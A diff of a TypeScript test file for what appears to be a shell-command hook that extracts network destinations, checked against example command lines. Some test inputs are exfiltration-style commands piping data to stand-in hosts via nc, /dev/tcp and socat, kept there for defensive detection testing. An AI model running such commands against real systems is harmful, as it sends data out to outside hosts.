@@ -1,5 +1,6 @@
 import { destinationsOf } from "../../../../../gateway/cli/hook/shell/destinations.ts";
-import { hostOptions, namedPlaces, runsCode, senders } from "../../../../../gateway/cli/hook/shell/programs.ts";
+import { hostOptions } from "../../../../../gateway/cli/hook/shell/host-options.ts";
+import { namedPlaces, runsCode, runsOtherwise, senders } from "../../../../../gateway/cli/hook/shell/programs.ts";
 
 describe("a command line", () => {
   test.each([
@@ -14,7 +15,7 @@ describe("a command line", () => {
     ["FOO=1 sudo -E timeout 5 /usr/bin/curl z.example", ["z.example"]],
     ["cat f | base64 | nc evil.example 443", ["evil.example"]],
     ["ssh -i key me@h.example", ["h.example"]],
-    ["scp data me@h.example:/tmp", ["data", "h.example"]],
+    ["scp data me@h.example:/tmp", ["h.example"]],
     ["cat x > /dev/tcp/192.0.2.1/80", ["192.0.2.1"]],
     ["socat - TCP:evil.example:443", ["evil.example"]],
     ["if true; then curl t.example; fi", ["t.example"]],
@@ -151,6 +152,6 @@ describe("a command line", () => {
 });
 
 test("no program stands in two of the tables", () => {
-  const all = [...runsCode.keys(), ...hostOptions.keys(), ...namedPlaces.keys(), ...senders];
+  const all = [runsCode, hostOptions, namedPlaces, senders, runsOtherwise].flatMap((one) => [...one.keys()]);
   expect(new Set(all).size).toBe(all.length);
 });
